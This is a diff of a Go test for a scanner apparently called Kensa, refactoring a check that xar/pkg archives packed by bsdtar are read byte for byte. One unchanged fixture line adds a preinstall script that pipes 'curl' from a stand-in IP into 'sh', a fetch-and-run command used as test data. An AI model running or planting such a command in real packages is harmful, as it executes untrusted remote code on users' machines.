@@ -16,26 +16,11 @@ import (
 // compression it offers, Kensa reads byte for byte, under the names it
 // shows; and bsdtar reads what formats.Xar writes, as Kensa does.
 func TestXarAsBsdtar(t *testing.T) {
-	bsdtar, err := exec.LookPath("bsdtar")
-	if err != nil {
-		t.Fatalf("bsdtar not found (scripts/deps.sh test installs libarchive-tools): %v", err)
-	}
+	bsdtar := toolNeeded(t, "bsdtar")
 	files := methodFiles()
-	src := t.TempDir()
-	if err := os.MkdirAll(filepath.Join(src, "Scripts"), 0o700); err != nil {
-		t.Fatal(err)
-	}
-	names := []string{"Scripts"}
-	for name, data := range files {
-		if err := os.WriteFile(filepath.Join(src, name), data, 0o600); err != nil {
-			t.Fatal(err)
-		}
-		names = append(names, name)
-	}
 	files["Scripts/preinstall"] = []byte("#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n")
-	if err := os.WriteFile(filepath.Join(src, "Scripts/preinstall"), files["Scripts/preinstall"], 0o700); err != nil {
-		t.Fatal(err)
-	}
+	src := t.TempDir()
+	names := writeFiles(t, src, files)
 	for _, comp := range []string{"gzip", "bzip2", "xz", "none"} {
 		t.Run(comp, func(t *testing.T) {
 			file := filepath.Join(t.TempDir(), "x.pkg")
@@ -48,11 +33,7 @@ func TestXarAsBsdtar(t *testing.T) {
 			msg := mail("", "", "x.pkg", b)
 			expand(t, msg, Options{})
 			noProblems(t, msg)
-			for name, data := range files {
-				if got := mustPart(t, msg, "2/x.pkg/"+name); !bytes.Equal(got.Content, data) {
-					t.Errorf("%s: read %d bytes, not the %d bsdtar packed", name, len(got.Content), len(data))
-				}
-			}
+			sameMembers(t, msg, "2/x.pkg", files, "bsdtar")
 		})
 	}
 	t.Run("formats.Xar", func(t *testing.T) {
